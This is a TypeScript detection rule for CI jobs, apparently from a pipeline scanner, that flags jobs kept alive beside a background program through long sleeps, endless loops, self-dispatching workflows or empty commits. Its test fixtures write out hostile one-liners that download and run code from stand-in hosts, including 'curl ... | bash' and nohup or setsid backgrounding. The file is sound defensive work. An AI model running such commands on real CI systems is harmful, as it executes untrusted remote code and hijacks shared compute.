import { isBackgrounded } from '../engine/background.ts';
import { WAITERS, waitSeconds } from '../engine/job-time.ts';
import {
  type CommandPassage,
  type JobView,
  type Passage,
  runsBrought,
} from '../engine/job-view.ts';
import type { Match, Rule } from '../engine/rule.ts';
import { WEIGHTS } from '../engine/weights.ts';

/** What waits less has something to wait for: a server that starts takes no ten minutes. */
const WAIT_SECONDS_MIN = 600;
/** Commands that wait which are added up: sixty times a minute is a way to write an hour. */
const WAITS_MAX = 200;
/** Calls that start a workflow again. */
const DISPATCHES = ['/dispatches', 'repository_dispatch'];
/** Actions that commit so that a schedule is not switched off. */
const KEEP_ALIVE_ACTIONS = ['keepalive-workflow', 'workflow-keepalive', 'keep-alive'];

/** Something is kept running although the job has nothing left to do. */
export const keepAlive: Rule = {
  id: 'keep-alive',
  title: 'The job is kept alive beside a program in the background',
  severity: 'low',
  confidence: 'low',
  maturity: 'stable',
  group: 'upkeep',
  // Waiting is everyday CI: only circumstances, which need no atom.
  atoms: [],
  hits: [
    {
      what: 'a long sleep in the foreground',
      script: 'curl -sLo app https://files.example.com/a && chmod +x app\n./app & sleep 3300',
    },
    {
      what: 'a loop without end',
      script: 'wget -qO w https://a.test/w; chmod +x w; nohup ./w &\nwhile true; do sleep 60; done',
    },
    {
      what: 'a file that never ends',
      script: 'wget -qO w https://a.test/w; chmod +x w; setsid ./w\ntail -f /dev/null',
    },
    {
      what: 'a workflow that starts itself',
      script:
        'curl -sL https://a.test/w | bash\n' +
        'curl -X POST https://api.github.com/repos/a/b/actions/workflows/c.yml/dispatches',
    },
    {
      what: 'empty commits',
      script: 'curl -sL https://a.test/w | sh\ngit commit --allow-empty -m up && git push',
    },
  ],
  innocents: [
    { what: 'a server that starts', script: './server & sleep 10\ncurl localhost:8080' },
    { what: 'a pause', script: 'sleep 900 && ./check.sh' },
    { what: 'a container that stays', script: 'docker run -d alpine tail -f /dev/null' },
    { what: 'a release that starts another', script: 'gh workflow run release.yml' },
    { what: 'an empty commit', script: 'git commit --allow-empty -m "trigger" && git push' },
    { what: 'a loop that ends', script: 'until curl -s localhost:1; do sleep 1; done' },
  ],
  look(view: JobView): readonly Match[] {
    return [...waits(view), ...revivals(view)];
  },
};

/** The programs in the background, where the job then waits. */
function waits(view: JobView): readonly Match[] {
  const started = view.commands.find((command) => {
    return runsBrought(command, view) && isBackgrounded(command);
  });
  if (!started) return [];
  const later = view.commands.filter(({ order, program }) => {
    return order >= started.order && WAITERS.has(program);
  });
  const waits = later
    .slice(0, WAITS_MAX)
    .map((command) => [command, waitSeconds(command)] as const);
  const waited = waits.reduce((sum, [, seconds]) => sum + seconds, 0);
  const wait = waits.find(([, seconds]) => seconds > 0)?.[0];
  if (!wait || waited < WAIT_SECONDS_MIN) return [];
  return [circumstance(wait, `${started.text} … ${wait.text}`, WEIGHTS.backgroundAndWait)];
}

function revivals(view: JobView): readonly Match[] {
  const commands = view.commands.filter(revives);
  const actions = view.shape.remoteCode.filter(({ text }) => {
    return KEEP_ALIVE_ACTIONS.some((name) => text.toLowerCase().includes(name));
  });
  const [first] = view.commands;
  return [
    ...commands.map((command) => circumstance(command, command.text, WEIGHTS.selfRevival)),
    ...actions.flatMap((source): readonly Match[] => {
      const whole = {
        start: 0,
        end: source.text.length,
        layers: [],
        via: [],
        order: first?.order ?? 0,
      };
      const passage: Passage = { ...whole, source, text: source.text, position: 'executed' };
      return [circumstance(passage, source.text, WEIGHTS.selfRevival)];
    }),
  ];
}

function revives({ program, arguments: given, text }: CommandPassage): boolean {
  if (program === 'git') return given.includes('commit') && given.includes('--allow-empty');
  if (program === 'gh' && given[0] === 'workflow') return given[1] === 'run';
  const calls = program === 'curl' || program === 'wget' || program === 'gh';
  return calls && DISPATCHES.some((path) => text.includes(path));
}

function circumstance(passage: Passage, evidence: string, bits: number): Match {
  return { passage, bits, evidence, role: 'circumstance', position: 'executed' };
}
